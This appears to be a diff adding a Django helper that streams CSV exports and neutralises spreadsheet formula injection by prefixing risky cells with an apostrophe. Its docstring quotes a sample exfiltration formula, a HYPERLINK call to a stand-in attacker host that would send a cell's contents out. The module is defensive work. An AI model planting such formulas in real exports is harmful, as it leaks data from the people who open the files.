@@ -1,0 +1,70 @@
+"""CSV exports that are safe to open in a spreadsheet.
+
+A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
+which some spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice
+and Google Sheets: a device note of ``=HYPERLINK("http://evil.example/?"&A1)`` would run
+on the district office's computer. OWASP's advice is to prefix such a cell with an
+apostrophe, which spreadsheets show as text. Every cell of ``csv_response`` goes through
+``neutralise``; numbers (not strings) are written as they are, since they cannot carry a
+formula and ``-3`` should stay a number.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable
+from decimal import Decimal
+
+from django.http import StreamingHttpResponse
+from django.utils.http import content_disposition_header
+from django_scopes import get_scope, scope
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+BOM = "\ufeff"
+
+
+def neutralise(value) -> str:
+    """The cell's text, with a leading apostrophe when a spreadsheet would run it."""
+    if value is None:
+        return ""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return str(value)
+    text = str(value)
+    if text.startswith(FORMULA_PREFIXES):
+        return "'" + text
+    return text
+
+
+class _Echo:
+    """A file-like object whose write() hands back the line (csv.writer needs a file)."""
+
+    def write(self, value: str) -> str:
+        return value
+
+
+def csv_response(
+    filename: str, header: Iterable, rows: Iterable[Iterable]
+) -> StreamingHttpResponse:
+    """Stream ``header`` and ``rows`` as a CSV download, every cell neutralised.
+
+    ``rows`` may be a lazy queryset or generator: it is consumed while the response is
+    sent, which happens after the view (and ScopeMiddleware's scope) has returned. The
+    scope active when this function is called is therefore captured here and re-activated
+    while the rows are read, so a scoped queryset is still filtered to what the user may
+    see instead of failing (or, under scopes_disabled, leaking).
+    """
+    writer = csv.writer(_Echo())
+    captured = dict(get_scope())
+    header = [neutralise(cell) for cell in header]
+
+    def lines():
+        # The BOM tells Excel the file is UTF-8; without it "Niño" opens as "NiÃ±o".
+        yield BOM + writer.writerow(header)
+        with scope(**captured):
+            for row in rows:
+                yield writer.writerow([neutralise(cell) for cell in row])
+
+    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
+    response["Content-Disposition"] = content_disposition_header(True, filename)
+    response["X-Content-Type-Options"] = "nosniff"
+    return response
